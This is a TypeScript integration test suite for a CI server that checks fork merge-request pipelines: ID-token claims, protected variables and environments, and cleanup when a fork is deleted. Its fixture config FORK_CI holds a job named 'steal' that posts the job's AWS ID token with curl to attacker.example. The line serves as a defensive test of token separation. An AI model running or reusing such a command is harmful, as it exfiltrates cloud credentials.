import { JWTPayload, createLocalJWKSet, jwtVerify } from 'jose';
import { DataSource } from 'typeorm';
import { commitCiConfig, requestJob } from './support/ci-fixtures';
import { branchHead } from './support/repository-fixtures';
import { client, resources } from './support/resources';
import { JobPayload, createRunner, runPipeline, takeJob, variableMap } from './support/runner-fixtures';
import { TestApp, TestUser, createUser, startTestApp } from './support/test-app';

const REPORTER = 20;
const DEVELOPER = 30;

// A job without rules is `only: [branches, tags]` in GitLab: these have rules so merge-request pipelines create them.
const PARENT_CI = `
build:
  script: [make]
  rules:
    - if: $CI_PIPELINE_SOURCE == "merge_request_event"
    - if: $CI_COMMIT_BRANCH
  id_tokens:
    AWS_TOKEN:
      aud: sts.amazonaws.com
`;
// The fork's own config: what a contributor controls, and what the merge-request pipeline runs.
const FORK_CI = `
steal:
  script: [curl -d "$AWS_TOKEN" https://attacker.example]
  rules:
    - if: $CI_PIPELINE_SOURCE == "merge_request_event"
    - if: $CI_COMMIT_BRANCH
  id_tokens:
    AWS_TOKEN:
      aud: sts.amazonaws.com
`;

interface World {
  owner: TestUser;
  reviewer: TestUser;
  contributor: TestUser;
  parent: { id: number; path_with_namespace: string; namespace: { id: number } };
  group: { id: number; full_path: string };
  runnerToken: string;
}

describe('Fork merge-request pipelines (gitlab#548165)', () => {
  let api: TestApp;
  let world: World;
  let issuer: string;

  beforeAll(async () => {
    api = await startTestApp();
    issuer = (await api.http.get('/.well-known/openid-configuration').expect(200)).body.issuer;
  });
  afterAll(() => api.close());

  async function verify(token: string): Promise<JWTPayload & Record<string, unknown>> {
    const jwks = createLocalJWKSet((await api.http.get('/oauth/discovery/keys').expect(200)).body);
    const { payload } = await jwtVerify(token, jwks, { issuer, audience: 'sts.amazonaws.com', algorithms: ['RS256'] });
    return payload as JWTPayload & Record<string, unknown>;
  }

  function tokenOf(job: JobPayload): string {
    return variableMap(job).get('AWS_TOKEN')!.value;
  }

  /** A parent in a group with CI on its (protected) main, a parent runner, and a reporter who forks it. */
  async function makeWorld(): Promise<World> {
    const owner = await createUser(api, 'owner');
    const reviewer = await createUser(api, 'reviewer');
    const contributor = await createUser(api, 'contrib');
    const make = resources(api);
    const group = await make.group(owner);
    const parent = await make.project(owner, { namespace_id: group.id });
    await commitCiConfig(api, owner, parent.id, PARENT_CI, 'main');
    await make.addMember(owner, `projects/${parent.id}`, reviewer, DEVELOPER);
    await make.addMember(owner, `projects/${parent.id}`, contributor, REPORTER);
    const runner = await createRunner(api, owner, { runner_type: 'project_type', project_id: parent.id });
    return { owner, reviewer, contributor, parent, group, runnerToken: runner.token };
  }

  async function forkOf(who: TestUser, projectId: number, body: object = {}) {
    const response = await client(api, who).post(`/projects/${projectId}/fork`, body);
    expect(response.status).toBe(201);
    return response.body as { id: number; path_with_namespace: string; namespace: { id: number; full_path: string }; visibility: string };
  }

  /** The contributor's fork, its `main` rewritten with their own config, and a merge request from it to the parent. */
  async function forkMergeRequest(w: World, sourceBranch = 'main', forkCi = FORK_CI) {
    const fork = await forkOf(w.contributor, w.parent.id);
    if (sourceBranch !== 'main') {
      await client(api, w.contributor).post(`/projects/${fork.id}/repository/branches`, { branch: sourceBranch, ref: 'main' }).expect(201);
    }
    await commitCiConfig(api, w.contributor, fork.id, forkCi, sourceBranch);
    const mr = await client(api, w.contributor).post(`/projects/${fork.id}/merge_requests`, {
      source_branch: sourceBranch,
      target_branch: 'main',
      target_project_id: w.parent.id,
      title: 'Improve things',
    });
    expect(mr.status).toBe(201);
    return { fork, mr: mr.body as { id: number; iid: number; project_id: number; source_project_id: number; target_project_id: number } };
  }

  beforeEach(async () => {
    world = await makeWorld();
  });

  it('names the fork in project_* and the parent in job_project_*, with ref_protected "false" for a fork branch called main', async () => {
    const { fork, mr } = await forkMergeRequest(world);
    const forkSha = await branchHead(api, world.contributor, fork.id, 'main');

    const created = await client(api, world.reviewer).post(`/projects/${world.parent.id}/merge_requests/${mr.iid}/pipelines`);
    expect(created.status).toBe(200); // GitLab: `status :ok`
    // GitLab's pipeline ref is the merge request's ref in the parent; the claims' ref is the source branch.
    expect(created.body).toMatchObject({
      project_id: world.parent.id,
      source: 'merge_request_event',
      sha: forkSha,
      ref: `refs/merge-requests/${mr.iid}/head`,
    });

    const job = await takeJob(api, world.runnerToken);
    expect(job.job_info.name).toBe('steal');
    const claims = await verify(tokenOf(job));
    const { host } = new URL(issuer);
    expect(claims).toMatchObject({
      project_id: String(fork.id),
      project_path: fork.path_with_namespace,
      namespace_id: String(fork.namespace.id),
      namespace_path: fork.namespace.full_path,
      job_project_id: String(world.parent.id),
      job_project_path: world.parent.path_with_namespace,
      job_namespace_id: String(world.group.id),
      job_namespace_path: world.group.full_path,
      pipeline_source: 'merge_request_event',
      ref: 'main',
      ref_type: 'branch',
      ref_path: 'refs/heads/main',
      ref_protected: 'false',
      sha: forkSha,
      project_visibility: 'private',
      ci_config_ref_uri: `${host}/${world.parent.path_with_namespace}//.gitlab-ci.yml@refs/heads/main`,
      user_login: world.reviewer.username,
      // The reviewer's level where the job runs (GitLab computes it on the fork, where the reviewer is no member).
      user_access_level: 'developer',
      sub: `project_path:${fork.path_with_namespace}:ref_type:branch:ref:main:job_project_path:${world.parent.path_with_namespace}`,
    });

    // The parent's own protected main, for comparison: its sub is never the fork's.
    await runPipeline(api, world.owner, world.parent.id, 'main');
    const parentClaims = await verify(tokenOf(await takeJob(api, world.runnerToken)));
    expect(parentClaims).toMatchObject({ project_path: world.parent.path_with_namespace, ref_protected: 'true', pipeline_source: 'api' });
    expect(claims.sub).not.toBe(parentClaims.sub);
  });

  it('gives the merge request predefined variables, and the parent unprotected but never protected variables', async () => {
    await client(api, world.owner).post(`/projects/${world.parent.id}/variables`, { key: 'OPEN_VAR', value: 'open-value' }).expect(201);
    await client(api, world.owner)
      .post(`/projects/${world.parent.id}/variables`, { key: 'DEPLOY_KEY', value: 'protected-secret', protected: true })
      .expect(201);
    const { fork, mr } = await forkMergeRequest(world, 'feature');
    await client(api, world.reviewer).post(`/projects/${world.parent.id}/merge_requests/${mr.iid}/pipelines`).expect(200);
    const variables = variableMap(await takeJob(api, world.runnerToken));
    const value = (key: string) => variables.get(key)?.value;
    expect(value('DEPLOY_KEY')).toBeUndefined();
    expect(value('OPEN_VAR')).toBe('open-value');
    expect({
      iid: value('CI_MERGE_REQUEST_IID'),
      id: value('CI_MERGE_REQUEST_ID'),
      sourceBranch: value('CI_MERGE_REQUEST_SOURCE_BRANCH_NAME'),
      targetBranch: value('CI_MERGE_REQUEST_TARGET_BRANCH_NAME'),
      sourceProjectId: value('CI_MERGE_REQUEST_SOURCE_PROJECT_ID'),
      sourceProjectPath: value('CI_MERGE_REQUEST_SOURCE_PROJECT_PATH'),
      projectId: value('CI_MERGE_REQUEST_PROJECT_ID'),
      projectPath: value('CI_MERGE_REQUEST_PROJECT_PATH'),
      title: value('CI_MERGE_REQUEST_TITLE'),
      eventType: value('CI_MERGE_REQUEST_EVENT_TYPE'),
      refPath: value('CI_MERGE_REQUEST_REF_PATH'),
      pipelineSource: value('CI_PIPELINE_SOURCE'),
      commitRef: value('CI_COMMIT_REF_NAME'),
      projectPathVariable: value('CI_PROJECT_PATH'),
    }).toEqual({
      iid: String(mr.iid),
      id: String(mr.id),
      sourceBranch: 'feature',
      targetBranch: 'main',
      sourceProjectId: String(fork.id),
      sourceProjectPath: fork.path_with_namespace,
      projectId: String(world.parent.id),
      projectPath: world.parent.path_with_namespace,
      title: 'Improve things',
      eventType: 'detached',
      refPath: `refs/merge-requests/${mr.iid}/head`,
      pipelineSource: 'merge_request_event',
      commitRef: 'feature',
      projectPathVariable: world.parent.path_with_namespace,
    });
  });

  it('keeps project_path-led subs apart from the parent main; a job_project_path-led sub needs ref_protected to stay apart', async () => {
    const { fork, mr } = await forkMergeRequest(world);
    const subsFor = async (components: string[]) => {
      await client(api, world.owner).put(`/projects/${world.parent.id}`, { ci_id_token_sub_claim_components: components }).expect(200);
      await client(api, world.reviewer).post(`/projects/${world.parent.id}/merge_requests/${mr.iid}/pipelines`).expect(200);
      const fromFork = (await verify(tokenOf(await takeJob(api, world.runnerToken)))).sub;
      await runPipeline(api, world.owner, world.parent.id, 'main');
      const fromMain = (await verify(tokenOf(await takeJob(api, world.runnerToken)))).sub;
      return { fromFork, fromMain };
    };

    const projectPathRef = await subsFor(['project_path', 'ref']);
    expect(projectPathRef.fromFork).toBe(
      `project_path:${fork.path_with_namespace}:ref:main:job_project_path:${world.parent.path_with_namespace}`,
    );
    expect(projectPathRef.fromFork).not.toBe(projectPathRef.fromMain);

    const projectIdRef = await subsFor(['project_id', 'ref']);
    expect(projectIdRef.fromFork).toBe(`project_id:${fork.id}:ref:main:job_project_id:${world.parent.id}`);
    expect(projectIdRef.fromFork).not.toBe(projectIdRef.fromMain);

    const withProtection = await subsFor(['job_project_path', 'ref', 'ref_protected']);
    expect(withProtection.fromFork).toBe(`job_project_path:${world.parent.path_with_namespace}:ref:main:ref_protected:false`);
    expect(withProtection.fromMain).toBe(`job_project_path:${world.parent.path_with_namespace}:ref:main:ref_protected:true`);
  });

  it('refuses a job_project-led sub that cannot tell a fork branch called main from the protected main (gitlab#548165)', async () => {
    const refused = await client(api, world.owner)
      .put(`/projects/${world.parent.id}`, { ci_id_token_sub_claim_components: ['job_project_path', 'ref'] })
      .expect(400);
    expect(JSON.stringify(refused.body)).toContain(
      'job_project_path must be followed by one of project_path, project_id, ref_protected or pipeline_source',
    );

    // Stored before the rule: the fork's job fails instead of getting the protected main's sub.
    const { mr } = await forkMergeRequest(world);
    await api.app.get(DataSource).query(
      `INSERT INTO project_ci_cd_settings (project_id, id_token_sub_claim_components) VALUES ($1, $2)
       ON CONFLICT (project_id) DO UPDATE SET id_token_sub_claim_components = EXCLUDED.id_token_sub_claim_components`,
      [world.parent.id, ['job_project_path', 'ref']],
    );
    await client(api, world.reviewer).post(`/projects/${world.parent.id}/merge_requests/${mr.iid}/pipelines`).expect(200);
    await requestJob(api, world.runnerToken).expect(204);
    const [dropped] = await api.app
      .get(DataSource)
      .query("SELECT failure_reason FROM ci_builds WHERE project_id = $1 AND status = 'failed' ORDER BY id DESC LIMIT 1", [
        world.parent.id,
      ]);
    expect(dropped.failure_reason).toBe('id_token_sub_components_invalid');
  });

  it('runs a contributor’s request in the fork, as GitLab does for a user who may not run pipelines in the parent', async () => {
    const { fork, mr } = await forkMergeRequest(world, 'feature');
    const created = await client(api, world.contributor).post(`/projects/${world.parent.id}/merge_requests/${mr.iid}/pipelines`);
    expect(created.status).toBe(200); // GitLab: `status :ok`
    expect(created.body).toMatchObject({ project_id: fork.id, source: 'merge_request_event', ref: 'feature' });
    // Nothing was queued for the parent's runner.
    expect(
      (await client(api, world.owner).get(`/projects/${world.parent.id}/pipelines`).expect(200)).body.map(
        (p: { source: string }) => p.source,
      ),
    ).not.toContain('merge_request_event');
  });

  it('refuses a merge-request pipeline to someone who cannot run pipelines in either project', async () => {
    const { mr } = await forkMergeRequest(world, 'feature');
    const outsider = await createUser(api, 'outsider');
    await resources(api).addMember(world.owner, `projects/${world.parent.id}`, outsider, REPORTER);
    const refused = await client(api, outsider).post(`/projects/${world.parent.id}/merge_requests/${mr.iid}/pipelines`);
    expect(refused.status).toBe(405); // GitLab: `not_allowed!`
    expect(refused.body).toEqual({ message: '405 Method Not Allowed' });
  });

  it('keeps the parent’s merge-request pipelines and their audit when the fork is deleted, and drops what still waits', async () => {
    const { fork, mr } = await forkMergeRequest(world);
    const db = api.app.get(DataSource);
    const ran = (await client(api, world.reviewer).post(`/projects/${world.parent.id}/merge_requests/${mr.iid}/pipelines`).expect(200))
      .body;
    const taken = await takeJob(api, world.runnerToken);
    const waiting = (await client(api, world.reviewer).post(`/projects/${world.parent.id}/merge_requests/${mr.iid}/pipelines`).expect(200))
      .body;

    await client(api, world.contributor).delete(`/projects/${fork.id}`).expect(202);

    // The fork's owner cannot erase what ran in the parent, nor its token audit.
    await client(api, world.owner).get(`/projects/${world.parent.id}/pipelines/${ran.id}`).expect(200);
    expect(await db.query('SELECT jti FROM ci_id_token_issuances WHERE build_id = $1', [taken.id])).toHaveLength(1);
    // What still waited is dropped, never minted a token in the parent's name.
    const [waitingJob] = (await client(api, world.owner).get(`/projects/${world.parent.id}/pipelines/${waiting.id}/jobs`).expect(200)).body;
    expect(waitingJob).toMatchObject({ status: 'failed', failure_reason: 'project_deleted' });
    await requestJob(api, world.runnerToken).expect(204);
    // The merge request stays in the parent without its source project, as GitLab's; no pipeline can run for it.
    expect(
      (await client(api, world.owner).get(`/projects/${world.parent.id}/merge_requests/${mr.iid}`).expect(200)).body.source_project_id,
    ).toBeNull();
    await client(api, world.reviewer).post(`/projects/${world.parent.id}/merge_requests/${mr.iid}/pipelines`).expect(405);
  });

  it('drops a deleted fork’s manual jobs and hands the resource group its queued job held to the parent’s waiting one', async () => {
    const onMergeRequests = '  rules:\n    - if: $CI_PIPELINE_SOURCE == "merge_request_event"\n';
    const forkCi = `deploy:\n  script: [x]\n  resource_group: production\n${onMergeRequests}review:\n  script: [y]\n${onMergeRequests}      when: manual\n`;
    const { fork, mr } = await forkMergeRequest(world, 'main', forkCi);
    await commitCiConfig(api, world.owner, world.parent.id, 'deploy:\n  script: [d]\n  resource_group: production\n', 'main');
    const forkPipeline = (
      await client(api, world.reviewer).post(`/projects/${world.parent.id}/merge_requests/${mr.iid}/pipelines`).expect(200)
    ).body;
    const parentPipeline = await runPipeline(api, world.owner, world.parent.id);
    const jobsOf = async (pipelineId: number) =>
      (await client(api, world.owner).get(`/projects/${world.parent.id}/pipelines/${pipelineId}/jobs`).expect(200)).body as {
        id: number;
        name: string;
        status: string;
        failure_reason?: string;
      }[];
    expect((await jobsOf(forkPipeline.id)).map((job) => [job.name, job.status])).toEqual([
      ['deploy', 'pending'],
      ['review', 'manual'],
    ]);
    const [waiting] = await jobsOf(parentPipeline.id);
    expect(waiting.status).toBe('waiting_for_resource');

    await client(api, world.contributor).delete(`/projects/${fork.id}`).expect(202);

    expect((await jobsOf(forkPipeline.id)).map((job) => [job.name, job.status, job.failure_reason])).toEqual([
      ['deploy', 'failed', 'project_deleted'],
      ['review', 'failed', 'project_deleted'],
    ]);
    expect((await takeJob(api, world.runnerToken)).id).toBe(waiting.id);
  });

  it('says the level the user holds where the job runs, never the owner level they hold on their own fork (issue 14, item 9)', async () => {
    // The reviewer, a developer of the parent, owns a fork and runs its merge request in the parent.
    const fork = await forkOf(world.reviewer, world.parent.id);
    await commitCiConfig(api, world.reviewer, fork.id, FORK_CI, 'main');
    const mr = await client(api, world.reviewer)
      .post(`/projects/${fork.id}/merge_requests`, {
        source_branch: 'main',
        target_branch: 'main',
        target_project_id: world.parent.id,
        title: 'Mine',
      })
      .expect(201);
    await client(api, world.reviewer).post(`/projects/${world.parent.id}/merge_requests/${mr.body.iid}/pipelines`).expect(200);
    const claims = await verify(tokenOf(await takeJob(api, world.runnerToken)));
    expect(claims).toMatchObject({ project_id: String(fork.id), job_project_id: String(world.parent.id), user_access_level: 'developer' });
  });

  it('never lets a fork’s code deploy to the parent’s protected environment, whoever starts the pipeline', async () => {
    await client(api, world.owner)
      .post(`/projects/${world.parent.id}/protected_environments`, {
        name: 'production',
        deploy_access_levels: [{ access_level: DEVELOPER }],
      })
      .expect(201);
    const { mr } = await forkMergeRequest(world, 'main', `${FORK_CI}  environment: production\n`);
    // The reviewer may deploy to production; the code that would run is the contributor's.
    const pipeline = (await client(api, world.reviewer).post(`/projects/${world.parent.id}/merge_requests/${mr.iid}/pipelines`).expect(200))
      .body;
    await requestJob(api, world.runnerToken).expect(204);
    const [job] = (await client(api, world.owner).get(`/projects/${world.parent.id}/pipelines/${pipeline.id}/jobs`).expect(200)).body;
    expect(job).toMatchObject({ status: 'failed', failure_reason: 'protected_environment_failure' });
    expect(await api.app.get(DataSource).query('SELECT jti FROM ci_id_token_issuances WHERE build_id = $1', [job.id])).toEqual([]);
  });

  it('gives a same-project merge request equal project and job-project claims', async () => {
    await client(api, world.owner).post(`/projects/${world.parent.id}/repository/branches`, { branch: 'feature', ref: 'main' }).expect(201);
    const mr = await client(api, world.reviewer)
      .post(`/projects/${world.parent.id}/merge_requests`, { source_branch: 'feature', target_branch: 'main', title: 'Same project' })
      .expect(201);
    expect(mr.body).toMatchObject({
      project_id: world.parent.id,
      source_project_id: world.parent.id,
      target_project_id: world.parent.id,
      iid: 1,
    });
    await client(api, world.reviewer).post(`/projects/${world.parent.id}/merge_requests/${mr.body.iid}/pipelines`).expect(200);
    const claims = await verify(tokenOf(await takeJob(api, world.runnerToken)));
    expect(claims).toMatchObject({
      project_id: String(world.parent.id),
      job_project_id: String(world.parent.id),
      project_path: world.parent.path_with_namespace,
      job_project_path: world.parent.path_with_namespace,
      namespace_id: String(world.group.id),
      job_namespace_id: String(world.group.id),
      pipeline_source: 'merge_request_event',
      ref: 'feature',
      ref_protected: 'false',
      user_access_level: 'developer',
    });
  });
});
